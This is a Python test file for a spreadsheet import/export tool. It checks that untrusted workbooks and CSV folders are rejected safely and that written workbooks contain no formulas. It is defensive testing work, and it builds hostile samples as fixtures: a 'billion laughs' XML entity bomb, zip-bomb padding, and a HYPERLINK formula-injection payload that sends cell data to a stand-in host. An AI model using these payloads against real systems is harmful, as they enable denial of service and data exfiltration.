"""Spreadsheets from strangers: read bounded, never a traceback; workbooks written hold no formula.

Reading: entity bombs, zip bombs, a cell far to the right, too many cells, huge or wide CSV rows
and special files each end in one ``spreadsheet-unreadable`` issue naming the file (and the part,
sheet and cell where known), exit 2. Writing: every workbook hsdata writes is scanned for formula
cells, in openpyxl's view and in the raw sheet XML; C0 control characters survive a round trip.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import time
import zipfile
from pathlib import Path

import pytest

from hsdata._spreadsheet import _reader, import_spreadsheet, write_template

from .conftest import read_json, run_cli, write_json

openpyxl = pytest.importorskip("openpyxl")

LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
        for n in range(1, 10)
    )
    + "]>\n"
)


def _rewrite(book: Path, part: str, edit: object) -> None:
    """Rewrite one part of a workbook (edit: text -> text) keeping every other part."""
    with zipfile.ZipFile(book) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    text = parts[part].decode("utf-8")
    parts[part] = edit(text).encode("utf-8")  # type: ignore[operator]
    with zipfile.ZipFile(book, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def _sheet_part(book: Path, title: str) -> str:
    workbook = openpyxl.load_workbook(book, read_only=True)
    index = workbook.sheetnames.index(title)
    workbook.close()
    return f"xl/worksheets/sheet{index + 1}.xml"


@pytest.fixture
def book(tmp_path: Path) -> Path:
    path = tmp_path / "filled.xlsx"
    write_template(path, package=Path(__file__).resolve().parents[2] / "data")
    return path


def _unreadable(source: Path, out: Path) -> tuple[str, dict[str, object]]:
    run = run_cli("import", "--format", "json", source, out)
    assert run.exit_code == 2, run.output
    report = json.loads(run.stdout)
    (issue,) = report["issues"]
    assert issue["rule"] == "spreadsheet-unreadable"
    assert not out.exists()
    return run.output, issue


def test_openpyxl_parses_with_defusedxml() -> None:
    import openpyxl.xml.functions

    assert openpyxl.DEFUSEDXML
    assert openpyxl.xml.functions.iterparse.__module__.startswith("defusedxml")


def test_an_entity_bomb_is_refused_at_its_part(book: Path, tmp_path: Path) -> None:
    part = _sheet_part(book, "actor")
    _rewrite(book, part, lambda text: LAUGHS + text)
    _, issue = _unreadable(book, tmp_path / "out")
    assert issue["file"] == f"{book}!/{part}"
    assert "entit" in str(issue["message"])


def test_an_entity_bomb_past_the_scan_is_still_an_issue(
    book: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Without hsdata's own scan, defusedxml refuses the entities: an issue, not a traceback."""
    _rewrite(book, _sheet_part(book, "actor"), lambda text: LAUGHS + text)
    monkeypatch.setattr(_reader, "_DOCTYPE", re.compile(rb"(?!)"))
    _, issue = _unreadable(book, tmp_path / "out")
    assert "damaged" in str(issue["message"])
    assert issue["file"] == str(book)


def test_a_zip_bomb_is_refused_before_it_inflates(book: Path, tmp_path: Path) -> None:
    part = _sheet_part(book, "actor")
    padding = " " * (40 * 1024 * 1024)  # deflates about 1000:1
    _rewrite(book, part, lambda text: text.replace("<sheetData>", "<sheetData>" + padding, 1))
    assert book.stat().st_size < 1024 * 1024
    started = time.monotonic()
    _, issue = _unreadable(book, tmp_path / "out")
    assert time.monotonic() - started < 10
    assert issue["file"] == f"{book}!/{part}"
    assert "zip bomb" in str(issue["message"])


def test_the_total_inflated_size_is_bounded(
    book: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(_reader, "MAX_INFLATED_BYTES", 64 * 1024)
    _, issue = _unreadable(book, tmp_path / "out")
    assert "inflates to more than" in str(issue["message"])


def test_a_cell_far_to_the_right_is_refused_at_its_cell_quickly(book: Path, tmp_path: Path) -> None:
    part = _sheet_part(book, "actor")
    far = '<c r="XFD2" t="inlineStr"><is><t>far</t></is></c>'
    _rewrite(book, part, lambda text: re.sub(r'(<row r="2"[^>]*>)', r"\1" + far, text, count=1))
    started = time.monotonic()
    _, issue = _unreadable(book, tmp_path / "out")
    assert time.monotonic() - started < 10
    assert str(issue["message"]).startswith("actor!XFD2:")
    assert issue["line"] == 2 and issue["column"] == 16384


def test_the_number_of_cells_is_bounded(
    book: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(_reader, "MAX_CELLS", 100)
    _, issue = _unreadable(book, tmp_path / "out")
    assert "more than 100 cells" in str(issue["message"])
    assert re.match(r"\w[\w.]*!\d+: ", str(issue["message"]))


def test_a_file_that_is_not_a_zip_names_the_file(tmp_path: Path) -> None:
    source = tmp_path / "fake.xlsx"
    source.write_bytes(b"PK\x03\x04 not really")
    _, issue = _unreadable(source, tmp_path / "out")
    assert issue["file"] == str(source)


# -- CSV folders ---------------------------------------------------------------------------------


@pytest.fixture
def csv_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "sheets"
    write_template(folder, format="csv", package=Path(__file__).resolve().parents[2] / "data")
    return folder


def _set_cell(folder: Path, sheet: str, text: str) -> None:
    path = folder / f"{sheet}.csv"
    lines = path.read_bytes().decode("utf-8-sig").split("\r\n")
    header = lines[0].split(",")
    cells = lines[1].split(",")
    column = header.index("name@en")
    cells[column] = text
    lines[1] = ",".join(cells)
    path.write_bytes("\r\n".join(lines).encode("utf-8-sig"))


def test_a_200k_character_csv_cell_is_read(csv_folder: Path, tmp_path: Path) -> None:
    long_name = "A" * 200_000
    _set_cell(csv_folder, "actor", long_name)
    report = import_spreadsheet(csv_folder, tmp_path / "out", validate=False)
    assert not report.issues, report.issues
    assert read_json(tmp_path / "out" / "actors.json")[0]["name"]["en"] == long_name


def test_a_csv_cell_past_the_limit_is_refused_at_its_row(
    csv_folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(_reader, "MAX_CSV_CELL", 1000)
    _set_cell(csv_folder, "actor", "A" * 1001)
    limit = csv.field_size_limit()
    _, issue = _unreadable(csv_folder, tmp_path / "out")
    assert issue["file"] == str(csv_folder / "actor.csv")
    assert str(issue["message"]).startswith("actor!2:")
    assert csv.field_size_limit() == limit  # the process-wide limit is put back


def test_a_very_wide_csv_row_is_refused(csv_folder: Path, tmp_path: Path) -> None:
    _set_cell(csv_folder, "actor", "x" + ",x" * 3000)
    started = time.monotonic()
    _, issue = _unreadable(csv_folder, tmp_path / "out")
    assert time.monotonic() - started < 10
    assert "past the last column read" in str(issue["message"])
    assert str(issue["message"]).startswith("actor!AMK2:")


def test_a_huge_csv_line_is_refused(
    csv_folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(_reader, "MAX_CSV_LINE", 5000)
    _set_cell(csv_folder, "actor", "y" * 6000)
    _, issue = _unreadable(csv_folder, tmp_path / "out")
    assert "longer than 5,000 characters" in str(issue["message"])


def test_special_files_and_links_in_a_csv_folder_are_not_read(
    csv_folder: Path, tmp_path: Path
) -> None:
    (csv_folder / "zzz.csv").symlink_to("/dev/zero")
    _, issue = _unreadable(csv_folder, tmp_path / "out")
    assert "symbolic link" in str(issue["message"])
    (csv_folder / "zzz.csv").unlink()
    os.mkfifo(csv_folder / "zzz.csv")
    _, issue = _unreadable(csv_folder, tmp_path / "out")
    assert "not a regular file" in str(issue["message"])


# -- no formulas in what hsdata writes -----------------------------------------------------------

HOSTILE = '=HYPERLINK("https://example.invalid/?x="&A1,"click")'
CONTROLS = "Bad\x01name\x07 with _x0041_ and \x1f\r end"


@pytest.fixture
def hostile_package(package: Path, tmp_path: Path) -> Path:
    """Valid data whose names, descriptor and an extension codelist hold formulas and controls."""
    actors = read_json(package / "actors.json")
    actors[0]["name"] = {"en": HOSTILE, "fr": CONTROLS}
    actors[1]["name"]["en"] = "#N/A"
    write_json(package / "actors.json", actors)
    descriptor = read_json(package / "datapackage.json")
    descriptor["title"] = HOSTILE
    descriptor["description"] = CONTROLS
    descriptor["hsdata:extensions"] = ["my-funding"]
    write_json(package / "datapackage.json", descriptor)
    extension = package / "my-funding"
    shutil.copytree(Path(__file__).resolve().parents[2] / "extensions" / "funding", extension)
    codes = extension / "codelists" / "currency.csv"
    text = codes.read_text(encoding="utf-8").replace("UAE Dirham", '"=HYPERLINK(""x"")"', 1)
    codes.write_text(text, encoding="utf-8")
    return package


def _formula_cells(book: Path) -> list[str]:
    found = []
    workbook = openpyxl.load_workbook(book)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            found += [f"{sheet.title}!{c.coordinate}" for c in row if c.data_type == "f"]
    with zipfile.ZipFile(book) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and re.search(
                rb"<(\w+:)?f[ >/]", archive.read(name)
            ):
                found.append(name)
    return found


def test_no_workbook_hsdata_writes_holds_a_formula(hostile_package: Path, tmp_path: Path) -> None:
    blank, canonical, hostile = tmp_path / "t.xlsx", tmp_path / "c.xlsx", tmp_path / "h.xlsx"
    assert run_cli("template", blank).exit_code == 0
    assert (
        run_cli("template", canonical, "--from", Path(__file__).parents[2] / "data").exit_code == 0
    )
    run = run_cli("template", hostile, "--from", hostile_package)
    assert run.exit_code == 0, run.output
    for book in (blank, canonical, hostile):
        assert _formula_cells(book) == [], book
    # the hostile text is there, as text
    workbook = openpyxl.load_workbook(hostile)
    values = {c.value for s in workbook.worksheets for r in s.iter_rows() for c in r}
    assert HOSTILE in values and '=HYPERLINK("x")' in values and "#N/A" in values


def test_control_characters_round_trip_through_a_workbook(
    hostile_package: Path, tmp_path: Path
) -> None:
    book = tmp_path / "h.xlsx"
    assert run_cli("template", book, "--from", hostile_package).exit_code == 0
    out = tmp_path / "back"
    shutil.copytree(hostile_package / "my-funding", out / "my-funding")
    run = run_cli("import", book, out, "--force")
    assert run.exit_code in (0, 1), run.output
    actors = read_json(out / "actors.json")
    assert actors[0]["name"] == {"en": HOSTILE, "fr": CONTROLS}
    assert actors[1]["name"]["en"] == "#N/A"
    assert read_json(out / "datapackage.json")["description"] == CONTROLS
